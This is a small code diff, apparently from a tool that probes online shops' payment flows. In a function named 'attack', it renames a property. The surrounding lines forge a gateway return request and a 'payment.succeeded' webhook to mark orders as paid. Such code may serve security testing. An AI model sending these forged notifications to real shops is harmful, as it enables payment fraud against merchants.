@@ -122,7 +122,7 @@ async function attack(shop, { provider, query, paid, random, all }) {
         "GET",
         `/gateway/remote/return?order_id=${paid.id.replace("payses_", "")}&transaction_id=${paid.data.transaction_id}`
       ),
-    tell: () =>
+    notify: () =>
       ask(shop.url, "POST", `/hooks/payment/${provider.replace("pp_", "")}`, {
         json: {
           event_type: "payment.succeeded",
